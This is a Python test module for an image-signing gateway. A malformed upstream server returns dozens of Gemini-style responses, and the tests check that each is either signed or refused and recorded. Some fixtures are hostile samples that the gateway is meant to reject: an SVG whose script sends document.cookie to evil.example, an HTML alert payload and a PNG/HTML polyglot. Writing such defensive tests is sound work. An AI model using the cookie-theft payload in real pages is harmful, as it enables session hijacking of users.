"""A deliberately malformed upstream: no response shape is released with an unsigned image.

A small ASGI upstream serves one response shape per request (chosen by the ``x-emulator-fault``
header, which Custody forwards to an upstream marked as an emulator). For every shape the caller
gets either HTTP 200 with every inline image carrying a valid C2PA manifest, or a Gemini-shaped
error naming the upstream; and the ledger holds the truthful record (``turn.released`` with the
right output count, or ``turn.failed`` with the reason). The gateway runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import base64
import io
import json
import os
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from PIL import Image

from governance.pipeline.response import sniff
from governance.provenance.verify import verify_image
from governance.upstream.embedded import ThreadedServer
from tests.conftest import asgi_request_ready

pytestmark = pytest.mark.pg_at_head  # what uses PostgreSQL here migrates it first

MODEL = "gemini-2.5-flash-image"
PG_ADMIN_URL = os.environ.get("CUSTODY_TEST_PG_URL", "postgresql://postgres@127.0.0.1:5432/test")


def _image(fmt: str, colour: tuple[int, int, int] = (200, 40, 40)) -> bytes:
    img = Image.new("RGB", (40, 30), colour)
    for x in range(40):  # some texture, so base64 of the bytes uses the whole alphabet
        img.putpixel((x, x % 30), (x * 6, 255 - x * 6, (x * 37) % 256))
    buffer = io.BytesIO()
    img.save(buffer, fmt)
    return buffer.getvalue()


PNG, JPEG, WEBP, GIF = (_image(f) for f in ("PNG", "JPEG", "WEBP", "GIF"))
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/'+document.cookie)</script><rect width='10'/></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def img(
    data: bytes = PNG, mime: str | None = "image/png", key: str = "inlineData", **extra: Any
) -> dict[str, Any]:
    mime_key = "mime_type" if key == "inline_data" else "mimeType"
    blob: dict[str, Any] = {"data": b64(data)}
    if mime is not None:
        blob[mime_key] = mime
    return {key: blob, **extra}


TEXT = {"text": "Here is the edited image."}


def resp(*parts: Any, finish: str | None = "STOP", **extra: Any) -> dict[str, Any]:
    candidate: dict[str, Any] = {"content": {"role": "model", "parts": list(parts)}, "index": 0}
    if finish:
        candidate["finishReason"] = finish
    return {
        "candidates": [candidate],
        "modelVersion": "malformed-upstream-1",
        "responseId": "resp-1",
        "usageMetadata": {"promptTokenCount": 5, "candidatesTokenCount": 1290},
        **extra,
    }


@dataclass(frozen=True)
class Shape:
    """One upstream answer and what Custody must do with it."""

    body: bytes | None = None  # a unary body (raw bytes: duplicate keys and non-JSON allowed)
    events: tuple[bytes, ...] = ()  # SSE payloads of a stream
    status: int = 200
    cut: bool = False  # stream: close the connection after the events, without a clean end
    streamed: bool = False  # a stream even with no events
    images: int | None = None  # released with this many signed images ...
    code: int | None = None  # ... or refused with this HTTP code and reason
    reason: str = ""

    @property
    def stream(self) -> bool:
        return self.streamed or bool(self.events)


def unary(doc: Any, **kw: Any) -> Shape:
    body = doc if isinstance(doc, bytes) else json.dumps(doc).encode()  # any int size
    return Shape(body=body, **kw)


def stream(*docs: Any, **kw: Any) -> Shape:
    return Shape(events=tuple(orjson.dumps(d) for d in docs), **kw)


MALFORMED = {"code": 502, "reason": "UPSTREAM_MALFORMED"}
UNSUPPORTED = {"code": 502, "reason": "UPSTREAM_OUTPUT_UNSUPPORTED"}
INCOMPLETE = {"code": 502, "reason": "UPSTREAM_STREAM_INCOMPLETE"}


def _urlsafe_png() -> str:
    text = base64.urlsafe_b64encode(PNG).decode().rstrip("=")
    assert "-" in text or "_" in text
    return text


_two_candidates = resp(img(PNG))
_two_candidates["candidates"].append(
    {"content": {"parts": [img(JPEG, "image/jpeg")]}, "finishReason": "STOP", "index": 1}
)
_dup_key = (
    b'{"candidates":[{"content":{"parts":[{"inlineData":{"mimeType":"image/png","data":"'
    + b64(SVG).encode()
    + b'"},"inlineData":{"mimeType":"image/png","data":"'
    + b64(PNG).encode()
    + b'"}}]},"finishReason":"STOP"}]}'
)
_dup_data = (
    b'{"candidates":[{"content":{"parts":[{"inlineData":{"mimeType":"image/png","data":"'
    + b64(PNG).encode()
    + b'","data":"'
    + b64(HTML).encode()
    + b'"}}]},"finishReason":"STOP"}]}'
)
_elsewhere = resp(img(PNG))
_elsewhere["candidates"][0]["groundingMetadata"] = {"inlineData": {"data": b64(PNG)}}

SHAPES: dict[str, Shape] = {
    # -- released, every image signed
    "png-with-text": unary(resp(TEXT, img(PNG)), images=1),
    "no-mime-type": unary(resp(img(PNG, None)), images=1),
    "empty-mime-type": unary(resp(img(PNG, "")), images=1),
    "octet-stream-mime-type": unary(resp(img(PNG, "application/octet-stream")), images=1),
    "wrong-image-mime-type": unary(resp(img(PNG, "image/jpeg")), images=1),
    "snake-case-fields": unary(resp(img(PNG, key="inline_data")), images=1),
    "second-image-under-inline_data": unary(
        resp(img(PNG), img(JPEG, "image/jpeg", key="inline_data")), images=2
    ),
    "image-in-text-part": unary(resp({**TEXT, **img(PNG)}), images=1),
    "base64url-unpadded": unary(
        resp({"inlineData": {"mimeType": "image/png", "data": _urlsafe_png()}}), images=1
    ),
    "jpeg": unary(resp(img(JPEG, "image/jpeg")), images=1),
    "webp": unary(resp(img(WEBP, "image/webp")), images=1),
    "gif": unary(resp(img(GIF, "image/gif")), images=1),
    "two-candidates": unary(_two_candidates, images=2),
    "thought-image": unary(resp(img(PNG, thought=True), img(PNG)), images=2),
    "duplicated-inlineData-key": unary(_dup_key, images=1),
    "safety-block-no-candidates": unary(
        {"promptFeedback": {"blockReason": "PROHIBITED_CONTENT"}}, images=0
    ),
    "image-safety-no-content": unary(
        {"candidates": [{"finishReason": "IMAGE_SAFETY", "index": 0}]}, images=0
    ),
    "stream-two-chunks": stream(
        resp(TEXT, finish=None), resp(img(PNG, None), finish="STOP"), images=1
    ),
    "stream-images-in-every-chunk": stream(
        resp(img(PNG), finish=None), resp(img(WEBP, "image/webp"), finish="STOP"), images=2
    ),
    "labels-longer-than-the-index-holds": unary(
        {**resp(img(PNG), finish="STOP"), "modelVersion": "m" * 5_000, "responseId": "r" * 5_000},
        images=1,
    ),
    "numbers-json-cannot-agree-on": unary(
        {
            **resp(img(PNG)),
            "usageMetadata": {"promptTokenCount": 10**30, "ratio": 1.5, "big": 1e300},
        },
        images=1,
    ),
    "stream-cut-mid-event": Shape(
        events=(orjson.dumps(resp(TEXT, finish=None)), b'{"candidates": [{"content": {"pa'),
        cut=True,
        **INCOMPLETE,
    ),
    # -- refused: not Gemini's structure, or bytes that are not what they claim
    "both-inlineData-and-inline_data": unary(
        resp({**img(PNG), **img(PNG, key="inline_data")}), **MALFORMED
    ),
    "candidates-not-a-list": unary(
        {"candidates": {"0": resp(img(PNG))["candidates"][0]}}, **MALFORMED
    ),
    "parts-not-a-list": unary(
        {"candidates": [{"content": {"parts": {"0": img(PNG)}}, "finishReason": "STOP"}]},
        **MALFORMED,
    ),
    "part-not-an-object": unary(resp("just a string"), **MALFORMED),
    "content-not-an-object": unary(
        {"candidates": [{"content": [img(PNG)], "finishReason": "STOP"}]}, **MALFORMED
    ),
    "candidate-not-an-object": unary({"candidates": [b64(PNG)]}, **MALFORMED),
    "text-not-a-string": unary(resp({"text": {"nested": True}}, img(PNG)), **MALFORMED),
    "bad-base64": unary(
        resp({"inlineData": {"mimeType": "image/png", "data": "not base64!!"}}), **MALFORMED
    ),
    "missing-data": unary(resp({"inlineData": {"mimeType": "image/png"}}), **MALFORMED),
    "empty-data": unary(resp({"inlineData": {"mimeType": "image/png", "data": ""}}), **MALFORMED),
    "truncated-png": unary(resp(img(PNG[:60])), **MALFORMED),
    "polyglot-png-with-html": unary(resp(img(PNG + HTML)), **MALFORMED),
    "inline-data-outside-parts": unary(_elsewhere, **MALFORMED),
    "not-json-200": unary(b"<html>upstream proxy error</html>", **MALFORMED),
    "duplicated-data-key-html-last": unary(_dup_data, **UNSUPPORTED),
    "svg-with-script": unary(resp(img(SVG, "image/svg+xml")), **UNSUPPORTED),
    "html-as-png": unary(resp(img(HTML)), **UNSUPPORTED),
    "pdf": unary(resp(img(PDF, "application/pdf")), **UNSUPPORTED),
    "unknown-bytes": unary(resp(img(os.urandom(256), "image/png")), **UNSUPPORTED),
    "file-reference": unary(
        resp({"fileData": {"mimeType": "image/png", "fileUri": "https://x.example/a.png"}}),
        **UNSUPPORTED,
    ),
    # -- the upstream's own errors keep their code
    "error-object-in-200": unary(
        {"error": {"code": 429, "message": "Quota exceeded.", "status": "RESOURCE_EXHAUSTED"}},
        code=429,
        reason="UPSTREAM_ERROR",
    ),
    "error-object-in-200-no-code": unary(
        {"error": {"message": "something broke"}}, code=502, reason="UPSTREAM_ERROR"
    ),
    "huge-error-message": unary(
        {"error": {"code": 429, "message": "q" * 200_000, "status": "RESOURCE_EXHAUSTED"}},
        status=429,
        code=429,
        reason="UPSTREAM_ERROR",
    ),
    # -- streams that do not finish
    "stream-cut": stream(resp(TEXT, finish=None), cut=True, **INCOMPLETE),
    "stream-cut-after-image": stream(resp(img(PNG), finish=None), cut=True, **INCOMPLETE),
    "stream-without-finish-reason": stream(
        resp(TEXT, finish=None), resp(img(PNG), finish=None), **INCOMPLETE
    ),
    "stream-no-events": Shape(streamed=True, **INCOMPLETE),
    "stream-error-chunk": stream(
        resp(TEXT, finish=None),
        {"error": {"code": 503, "message": "overloaded", "status": "UNAVAILABLE"}},
        code=503,
        reason="UPSTREAM_ERROR",
    ),
    "stream-svg-in-second-chunk": stream(
        resp(img(PNG), finish=None), resp(img(SVG, "image/svg+xml")), **UNSUPPORTED
    ),
    "stream-chunk-not-json": Shape(
        events=(orjson.dumps(resp(TEXT, finish=None)), b"{not json"), **MALFORMED
    ),
}


class MalformedUpstream:
    """An ASGI app answering each request with the shape its ``x-emulator-fault`` header names."""

    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
        if not await asgi_request_ready(scope, receive, send):
            return
        headers = dict(scope["headers"])
        shape = SHAPES[headers[b"x-emulator-fault"].decode()]
        streamed = b"streamGenerateContent" in scope["path"].encode()
        if not streamed or shape.status != 200 or shape.body is not None:
            body = shape.body if shape.body is not None else b""
            await send(
                {
                    "type": "http.response.start",
                    "status": shape.status,
                    "headers": [(b"content-type", b"application/json")],
                }
            )
            await send({"type": "http.response.body", "body": body})
            return
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [(b"content-type", b"text/event-stream")],
            }
        )
        for event in shape.events:
            chunk = b"data: " + event + b"\r\n\r\n"
            await send({"type": "http.response.body", "body": chunk, "more_body": True})
        if not shape.cut:
            await send({"type": "http.response.body", "body": b""})
        # cut: returning without the final body message makes uvicorn drop the connection


@pytest.fixture(scope="module")
def upstream() -> Iterator[ThreadedServer]:
    server = ThreadedServer(MalformedUpstream()).start()
    try:
        yield server
    finally:
        server.stop()


def _pg_database() -> Iterator[str]:
    import psycopg

    try:
        with psycopg.connect(PG_ADMIN_URL, connect_timeout=3) as conn:
            conn.execute("SELECT 1")
    except Exception as exc:
        if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
            pytest.fail(f"PostgreSQL not reachable at {PG_ADMIN_URL}: {exc}")
        pytest.skip(f"PostgreSQL not reachable at {PG_ADMIN_URL}: {exc}")
    name = f"custody_t_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(PG_ADMIN_URL, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    try:
        yield f"{PG_ADMIN_URL.rsplit('/', 1)[0]}/{name}"
    finally:
        with psycopg.connect(PG_ADMIN_URL, autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def _no_database() -> Iterator[str]:
    yield ""  # SQLite under the data directory


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def gateway(
    request: pytest.FixtureRequest,
    upstream: ThreadedServer,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Any]:
    from conftest import start_custody

    data_dir: Path = tmp_path_factory.mktemp(f"custody-{request.param}")
    databases = _pg_database() if request.param == "postgres" else _no_database()
    url = next(databases)
    running = start_custody(data_dir, url, upstream_base_url=upstream.base_url, emulator="on")
    try:
        yield running
    finally:
        running.stop()
        databases.close()


def _request_body() -> bytes:
    return orjson.dumps({"contents": [{"role": "user", "parts": [{"text": "a red square"}]}]})


def _call(gateway: Any, name: str, shape: Shape) -> httpx.Response:
    method = "streamGenerateContent" if shape.stream else "generateContent"
    params = {"alt": "sse"} if shape.stream else {}
    return httpx.post(
        f"{gateway.base_url}/v1beta/models/{MODEL}:{method}",
        params=params,
        content=_request_body(),
        headers={
            "x-goog-api-key": gateway.keys["editor"],
            "content-type": "application/json",
            "x-emulator-fault": name,
        },
        timeout=60,
    )


def _released_documents(response: httpx.Response, streamed: bool) -> list[dict[str, Any]]:
    if not streamed:
        return [response.json()]
    docs = []
    for event in response.content.split(b"\r\n\r\n"):
        if event.startswith(b"data: "):
            docs.append(orjson.loads(event[6:]))
    return docs


def _inline_blobs(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        for key, child in value.items():
            if key in ("inlineData", "inline_data", "fileData", "file_data"):
                yield child
            else:
                yield from _inline_blobs(child)
    elif isinstance(value, list):
        for child in value:
            yield from _inline_blobs(child)


def _new_turn_events(gateway: Any, since: int) -> list[dict[str, Any]]:
    events = [e for e in gateway.ledger_events() if e["index"] >= since and e.get("turn")]
    assert len({e["turn"] for e in events}) == 1, events
    return events


@pytest.mark.parametrize("name", list(SHAPES))
def test_every_shape_is_signed_or_refused_and_recorded_truthfully(gateway: Any, name: str) -> None:
    shape = SHAPES[name]
    since = gateway.services.ledger.size()
    response = _call(gateway, name, shape)
    events = _new_turn_events(gateway, since)
    types = [e["type"] for e in events]
    assert "upstream.returned" in types, types
    if shape.images is not None:
        assert response.status_code == 200, response.text[:500]
        documents = _released_documents(response, shape.stream)
        blobs = [b for d in documents for b in _inline_blobs(d)]
        assert len(blobs) == shape.images
        anchors = gateway.services.signer.trust_anchors_pem()
        for blob in blobs:
            data = base64.b64decode(blob["data"])
            mime = blob.get("mimeType", blob.get("mime_type"))
            assert mime == sniff(data)  # a missing or wrong declared type is corrected
            assert verify_image(data, None, anchors).state in ("Trusted", "Valid")
        assert SVG not in response.content and b64(SVG).encode() not in response.content
        released = next(e for e in events if e["type"] == "turn.released")
        assert released["body"]["outputs"] == shape.images
        assert types.count("output.signed") == shape.images
        assert "turn.failed" not in types
    else:
        assert response.status_code == shape.code, response.text[:500]
        error = response.json()["error"]
        assert error["code"] == shape.code
        if shape.reason != "UPSTREAM_ERROR":
            assert error["status"] == "UNAVAILABLE"
            assert error["details"][0]["reason"] == shape.reason
        assert set(response.json()) == {"error"}  # nothing of the response went out
        failed = next(e for e in events if e["type"] == "turn.failed")
        assert failed["body"]["reason"] == shape.reason
        assert failed["body"]["code"] == shape.code
        assert "turn.released" not in types and "output.signed" not in types


def test_sdk_gets_signed_image_when_upstream_omits_the_mime_type(gateway: Any) -> None:
    from google.genai import types

    client = gateway.client()
    result = client.models.generate_content(
        model=MODEL,
        contents="a red square",
        config=types.GenerateContentConfig(
            http_options=types.HttpOptions(headers={"x-emulator-fault": "no-mime-type"})
        ),
    )
    blobs = [p.inline_data for p in result.candidates[0].content.parts if p.inline_data]
    assert len(blobs) == 1 and blobs[0].mime_type == "image/png"
    anchors = gateway.services.signer.trust_anchors_pem()
    assert verify_image(blobs[0].data, "image/png", anchors).state in ("Trusted", "Valid")


@pytest.mark.parametrize("name", ["svg-with-script", "bad-base64", "error-object-in-200"])
def test_sdk_raises_the_upstreams_error_not_the_callers(gateway: Any, name: str) -> None:
    from google.genai import errors, types

    client = gateway.client()
    with pytest.raises(errors.APIError) as caught:
        client.models.generate_content(
            model=MODEL,
            contents="a red square",
            config=types.GenerateContentConfig(
                http_options=types.HttpOptions(headers={"x-emulator-fault": name})
            ),
        )
    assert caught.value.code == SHAPES[name].code
    assert caught.value.code >= 500 or name == "error-object-in-200"


def test_sdk_stream_that_is_cut_is_an_error_not_an_empty_success(gateway: Any) -> None:
    from google.genai import errors, types

    client = gateway.client()
    since = gateway.services.ledger.size()
    with pytest.raises(errors.APIError) as caught:
        for _ in client.models.generate_content_stream(
            model=MODEL,
            contents="a red square",
            config=types.GenerateContentConfig(
                http_options=types.HttpOptions(headers={"x-emulator-fault": "stream-cut"})
            ),
        ):
            pass
    assert caught.value.code == 502
    failed = [e for e in _new_turn_events(gateway, since) if e["type"] == "turn.failed"]
    assert failed[0]["body"]["reason"] == "UPSTREAM_STREAM_INCOMPLETE"


@pytest.mark.parametrize("method", ["generateContent", "streamGenerateContent"])
def test_upstream_timeout_is_504_deadline_exceeded_and_recorded(
    tmp_path: Path, db_url: str, method: str
) -> None:
    from conftest import start_custody

    running = start_custody(tmp_path / "custody", db_url, upstream_timeout_s=1.0)
    try:
        since = running.services.ledger.size()
        response = httpx.post(
            f"{running.base_url}/v1beta/models/{MODEL}:{method}",
            params={"alt": "sse"} if method == "streamGenerateContent" else {},
            content=_request_body(),
            headers={"x-goog-api-key": running.keys["editor"], "x-emulator-fault": "slow:5000"},
            timeout=60,
        )
        assert response.status_code == 504, response.text
        error = response.json()["error"]
        assert error["status"] == "DEADLINE_EXCEEDED"
        assert error["details"][0]["reason"] == "UPSTREAM_TIMEOUT"
        events = _new_turn_events(running, since)
        returned = next(e for e in events if e["type"] == "upstream.returned")
        assert returned["body"]["error"]["code"] == 504
        failed = next(e for e in events if e["type"] == "turn.failed")
        assert failed["body"]["reason"] == "UPSTREAM_TIMEOUT"
    finally:
        running.stop()


@pytest.mark.parametrize("method", ["generateContent", "streamGenerateContent"])
def test_emulator_error_in_200_reaches_the_caller_as_the_upstreams_429(
    custody: Any, method: str
) -> None:
    since = custody.services.ledger.size()
    response = httpx.post(
        f"{custody.base_url}/v1beta/models/{MODEL}:{method}",
        params={"alt": "sse"} if method == "streamGenerateContent" else {},
        content=_request_body(),
        headers={"x-goog-api-key": custody.keys["editor"], "x-emulator-fault": "error200"},
        timeout=60,
    )
    assert response.status_code == 429, response.text
    assert response.json()["error"]["status"] == "RESOURCE_EXHAUSTED"
    failed = [e for e in _new_turn_events(custody, since) if e["type"] == "turn.failed"]
    assert failed[0]["body"]["code"] == 429 and failed[0]["body"]["reason"] == "UPSTREAM_ERROR"


def test_release_check_counts_inline_data_that_is_not_a_signed_file() -> None:
    from governance.pipeline.response import replace_images, unsigned_inline_data

    docs = [resp(img(PNG), img(JPEG, "image/jpeg"))]
    placed = replace_images(docs, {(0, 0, 0): GIF})
    assert unsigned_inline_data(docs, placed) == 1  # the JPEG was not swapped for a signed file
    docs[0]["candidates"][0]["content"]["parts"].pop()
    assert unsigned_inline_data(docs, placed) == 0
    docs[0]["usageMetadata"] = {"inline_data": {"data": b64(PNG)}}  # anywhere in the document
    assert unsigned_inline_data(docs, placed) == 1


def test_upstream_numbers_follow_the_ledgers_one_number_rule(gateway: Any) -> None:
    """An upstream's floats reach the leaf under the vocabulary's one number rule, as their
    shortest decimal text (``governance.ledger_vocabulary.ledger_value``, docs/ledger-format.md
    §1): 1.5 and 1e300, and 10**30, which the JSON parser reads as the float 1e30."""
    name = "numbers-json-cannot-agree-on"
    since = gateway.services.ledger.size()
    response = _call(gateway, name, SHAPES[name])
    assert response.status_code == 200, response.text[:500]
    returned = next(e for e in _new_turn_events(gateway, since) if e["type"] == "upstream.returned")
    assert returned["body"]["usage"] == {
        "promptTokenCount": "1e+30",
        "ratio": "1.5",
        "big": "1e+300",
    }
